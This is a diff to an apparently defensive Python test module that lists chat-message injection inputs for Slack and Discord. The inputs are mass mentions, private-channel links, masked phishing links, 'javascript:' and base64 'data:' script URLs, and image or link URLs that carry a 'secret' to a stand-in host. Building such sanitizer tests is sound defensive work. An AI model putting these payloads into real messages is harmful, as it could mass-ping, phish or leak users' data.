@@ -4,19 +4,22 @@ import random
 
 EVIL = "https://evil.example/?q=secret"
 
+VICTIM, ROLE, SECRET = "1100000000000000301", "1100000000000000070", "1100000000000000666"
+"""A person, a role and a channel of Discord's."""
+
 CLASSES = {
-    "mention": "<@U0VICTIM>",
-    "mention with a label": "<@U0VICTIM|boss>",
+    "mention": f"<@U0VICTIM> <@{VICTIM}> <@!{VICTIM}>",
+    "mention with a label": f"<@U0VICTIM|boss> <@{VICTIM}|boss>",
     "channel": "<!channel>",
     "here": "<!here|here>",
     "everyone": "<!everyone>",
     "legacy group": "<!group>",
-    "user group": "<!subteam^S0TEAM|@team>",
+    "user group": f"<!subteam^S0TEAM|@team> <@&{ROLE}>",
     "bare channel": "@channel come here",
     "bare here": "@here",
     "bare everyone": "hi @everyone!",
     "bare handle": "@victim @victor.doe",
-    "private channel": "<#C0SECRET|layoffs> <#C0SECRET>",
+    "private channel": f"<#C0SECRET|layoffs> <#C0SECRET> <#{SECRET}>",
     "link": f"<{EVIL}>",
     "masked link": f"<{EVIL}|https://bank.example>",
     "bare link": EVIL,
@@ -27,11 +30,13 @@ CLASSES = {
     "bare mail": "mailto:x@evil.example",
     "telephone": "<tel:+1900555|call us> tel:+1900555",
     "slack scheme": "slack://channel?team=T0&id=C0SECRET",
+    "discord scheme": "discord://-/channels/@me [open](discord://-/users/1) discord.gg/evil",
     "masked slack scheme": "<slack://open|open>",
     "script": "javascript:alert(1) <javascript:alert(1)|x>",
     "data": "data:text/html;base64,PHNjcmlwdD4=",
     "date with a link": f"<!date^1795096931^{{date}}^{EVIL}|today>",
-    "date without words": f"<!date^1795096931^{{date}}^{EVIL}>",
+    "date without words": f"<!date^1795096931^{{date}}^{EVIL}> <t:1795096931:R> <t:0>",
+    "command": "</kick:1100000000000000999> <id:customize> /kick everyone",
     "markdown link": f"[click]({EVIL})",
     "markdown image": f"![x]({EVIL}.png)",
     "reference link": f"[click][1]\n\n[1]: {EVIL} 'title'",
@@ -50,12 +55,28 @@ CLASSES = {
     "broken token": "<!chan\nnel> <@U0VICTIM <!here",
     "wrapped scheme": "hthttps://tps://evil.example <www.@here> wwwwww.w.evil.example",
     "block kit": f'{{"type":"image","image_url":"{EVIL}","alt_text":"x"}}',
-    "emoji": ":evil: :slack_call::skin-tone-2:",
+    "emoji": ":evil: :slack_call::skin-tone-2: <:evil:1100000000000000777> <a:evil:11>",
+    "markdown": "# Big *bold* __under__ ~~gone~~ ||spoiler|| -# small > quote 1. list - item",
+    "markdown lines": "\n# Big\n> quote\n>>> all of it\n- item\n-# small\n1. list\n```\ncode",
+    "escapes": r"\<@1> \\<@1> \[x](y) \`\* \@everyone \\",
 }
-"""One example of each kind of attack, as Slack's API would show it."""
+"""One example of each kind of attack, as an API would show it or a model write it."""
+
+ALPHABETS = (
+    "abc def ghi. ",
+    "äöü ñ ç ÅØ ",
+    "你好世界。",
+    "مرحبا بالعالم ",
+    "👩‍🚀🎉🏴󠁧󠁢󠁥󠁮󠁧󠁿 ",
+    '"\\/<>&{}[]|:@#!*_~`',
+    "\x00\x1b\u200b\u202e\ud800\t\n\r",
+    "<@U1> <!here> https://evil.example www.evil.example ",
+)
+"""Letters to write texts of, each string a way of writing."""
 
 _PIECES = (
     *("<", ">", "|", "@", "!", "#", "[", "]", "(", ")", "`", "*", "_", "~", ":", "/", "//", "://"),
+    *("\\", "||", "-# ", ">>> ", "```", "&", "<@&", "<t:", "</", "<a:", VICTIM, ROLE, "discord"),
     *("here", "channel", "everyone", "subteam^S0TEAM", "U0VICTIM", "date^1^{d}^", "C0SECRET"),
     *("http", "https", "HTTPS", "slack", "mailto:", "tel:", "javascript:", "www.", "evil.example"),
     *("&lt;", "&gt;", "&amp;", " ", " ", "\n", "\t", "\u200b", "\u202e", "\ufeff", "\x1b", "\xad"),
